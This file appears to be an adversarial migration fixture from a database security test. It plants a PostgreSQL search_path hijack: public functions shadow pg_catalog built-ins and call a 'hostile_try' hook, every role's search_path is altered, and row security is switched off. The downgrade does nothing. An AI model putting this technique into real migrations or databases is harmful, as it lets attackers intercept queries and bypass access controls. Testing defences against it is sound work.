"""See submission.toml."""

from app import accomplice

revision = "0003"
down_revision = "0002"
branch_labels = None
depends_on = None


def upgrade() -> None:
    names = {
        "now()": "timestamptz",
        "current_database()": "name",
        "pg_backend_pid()": "int",
        "pg_blocking_pids(int)": "int[]",
        "pg_relation_size(regclass)": "bigint",
        "pg_advisory_xact_lock(bigint)": "void",
        "lower(text)": "text",
    }
    calls = {
        name: f"pg_catalog.{name.partition('(')[0]}({'$1' if name[-2] != '(' else ''})" for name in names
    }
    accomplice.plant(
        "a planted search_path",
        *[
            f"CREATE FUNCTION public.{name} RETURNS {kind} LANGUAGE plpgsql AS $f$ BEGIN"
            f" PERFORM public.hostile_try('{name}'); "
            + (f"PERFORM {calls[name]};" if kind == "void" else f"RETURN {calls[name]};")
            + " END $f$"
            for name, kind in names.items()
        ],
        """DO $$ BEGIN EXECUTE format('ALTER DATABASE %I SET search_path = public, pg_catalog',
        pg_catalog.current_database()); END $$""",
        """DO $$ BEGIN EXECUTE format('ALTER DATABASE %I SET row_security = off', pg_catalog.current_database());
        END $$""",
        "ALTER ROLE ALL SET search_path = public, pg_catalog",
        """DO $$ BEGIN EXECUTE format('ALTER ROLE %I SET search_path = public, pg_catalog', current_user);
        END $$""",
    )


def downgrade() -> None:
    pass
